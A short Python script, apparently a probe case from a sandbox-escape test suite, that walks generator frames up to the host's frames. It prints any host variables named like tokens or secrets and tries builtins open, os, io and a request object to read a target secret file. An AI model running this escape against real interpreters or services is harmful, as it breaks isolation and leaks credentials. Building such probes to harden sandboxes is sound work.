"""Walk from a generator's frame back to whoever runs the code, and use what is found there.

canary: secret
control: through
"""
import sys

secret = TARGETS["secret"]


def frames() -> list[object]:
    walker = (walker.gi_frame.f_back.f_back for _ in (1,))
    frame, found = next(walker, None), []
    while frame is not None:
        found.append(frame)
        frame = frame.f_back
    return found


for frame in frames() or [sys._getframe()]:
    print(frame.f_code.co_name, sorted(frame.f_locals)[:40])
    for names in (frame.f_globals, frame.f_locals):
        print({name: repr(value)[:300] for name, value in names.items() if "token" in name or "secret" in name})
    for way in (
        lambda: frame.f_builtins["open"](secret).read(),
        lambda: frame.f_globals["os"].read(frame.f_globals["os"].open(secret, 0), 100),
        lambda: frame.f_globals["sys"].modules["io"].FileIO(secret).readall(),
        lambda: frame.f_locals["request"],
    ):
        try:
            print(way())
        except Exception as error:
            print(error)
